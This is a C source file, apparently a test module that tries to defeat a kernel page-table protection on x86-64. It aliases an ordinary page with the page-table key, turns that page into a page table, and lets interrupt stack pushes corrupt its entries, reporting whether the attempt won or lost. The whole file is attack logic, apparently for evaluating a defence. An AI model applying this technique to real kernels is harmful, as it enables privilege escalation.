// SPDX-License-Identifier: GPL-2.0-only
/*
 * What is keyed is at one address of the kernel: an entry that would map it at another
 * one is refused. Here an ordinary page is mapped at another address with the key of page
 * tables, which nobody asks about, and then becomes a page table. The address is right
 * below a stack in vmalloc's range, so that an interrupt of a section pushes entries to it.
 */
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

#include "addresses.h"
#include "attack.h"
#include "changer.h"
#include "chunk.h"
#include "direct_map.h"
#include "list.h"
#include "objects.h"

#ifdef __x86_64__
#define LIKE_PART	0x5b
#define TABLES_PART	0x56
#define NR_TABLES	1500
#define KEY_OF_TABLES	(1UL << 60)
#define HOLE		(10UL << 40)	/* of vmalloc's range */
#define LAST_SLOTS	40
#define LAST_KEYS	0x0ff0000000000000UL
#define MEMORY		(1UL << 30)

static int become_table(struct chunk *chunk, uint64_t phys, volatile char *base)
{
	munmap((void *)chunk->at, CHUNK_SIZE);
	return put_on_free_list(chunk->page, CHUNK_ORDER) ? -1 : find_table(base, NR_TABLES, 0, phys);
}

/* Does it lead to memory that is there, by what the CPU takes for an entry? */
static bool is_entry(uint64_t value)
{
	return value & PTE_PRESENT && value & PTE_USER && (value & PTE_PFN_MASK) < MEMORY &&
	       !(value & LAST_KEYS);
}

static enum outcome look(const uint64_t *before, uint64_t table, volatile char *at)
{
	int slot, n = PAGE_SIZE / 8, changed = 0;
	uint64_t value, last = 0;

	for (slot = n - 1; slot >= n - LAST_SLOTS; slot--) {
		value = kread64(table + slot * 8);
		if (value == before[slot])
			continue;
		changed++;
		last = value;
		if (is_entry(value) && can_read(at + slot * PAGE_SIZE))
			return won("entry %d of a page table is 0x%lx (was 0x%lx), and user space reads by it",
				   slot, value, before[slot]);
	}
	if (changed)
		return won("%d entries of a page table were changed, one to 0x%lx", changed, last);
	return lost("no entry was changed, mprotect() %s",
		    changer_came_back() ? "came back" : "did not come back");
}

static enum outcome push(uint64_t table, uint64_t stack, volatile char *at)
{
	const char *missing = changer_start();
	uint64_t before[512];

	if (missing)
		return broken("%s", missing);
	kread(table, before, sizeof(before));
	if (!changer_push(stack))
		return broken("another task runs there");
	return look(before, table, at);
}

/* With write protection what has a key is read-only, too. */
static uint64_t with_key(void)
{
	char line[1024] = "";
	FILE *file = fopen("/proc/cmdline", "r");

	if (file)
		(void)!fgets(line, sizeof(line), file);
	return (PTE_KERNEL_RW | KEY_OF_TABLES) & ~(strstr(line, ",wp") ? PTE_RW | PTE_DIRTY : 0);
}

/* Two pages of ours behind it. */
static bool map_stack(volatile char *like, uint64_t at)
{
	struct slot slot;
	int i;

	like[0] = 1;
	for (i = 1; i < 3; i++) {
		like[i * PAGE_SIZE] = 1;
		if (kwalk((uint64_t)like + i * PAGE_SIZE, LEVEL_PTE, 0, &slot) ||
		    !map_address(at + i * PAGE_SIZE, slot.phys, PTE_KERNEL_RW))
			return false;
	}
	return true;
}

enum outcome key_alias(void)
{
	uint64_t alias = vmalloc_base() + HOLE, phys;
	volatile char *base, *like;
	struct chunk chunk;
	struct slot slot;
	int which;

	if (!is_protected())
		return user_pte();
	if (sysconf(_SC_NPROCESSORS_ONLN) < 2)
		return skipped("needs a second CPU");
	stay_on_cpu(0);
	base = sparse_region(user_room(TABLES_PART), NR_TABLES, PROT_READ);
	like = map_small_pages(LIKE_PART, 3 * PAGE_SIZE);
	if (!base || !like || !find_chunks(&chunk, 1))
		return broken("no pages in a row");
	if (!map_stack(like, alias))
		return broken("no pages for a stack");
	phys = chunk.phys + MOVED * PAGE_SIZE;
	if (!map_address(alias, phys, with_key()))
		return lost("an ordinary page is not mapped with the key");
	use_up_blocks();
	which = become_table(&chunk, phys, base);
	if (which < 0)
		return lost("the page did not become a table of ours, its frame is 0x%x", frame_of(phys));
	corrupt_command("free");
	if (kwalk(alias, LEAF, 0, &slot) || (slot.phys & -PAGE_SIZE) != phys)
		return lost("the alias is gone");
	return push(direct_map_base() + phys, alias + PAGE_SIZE, base + which * PMD_SIZE);
}
#else
enum outcome key_alias(void)
{
	return skipped("x86-64 only");
}
#endif
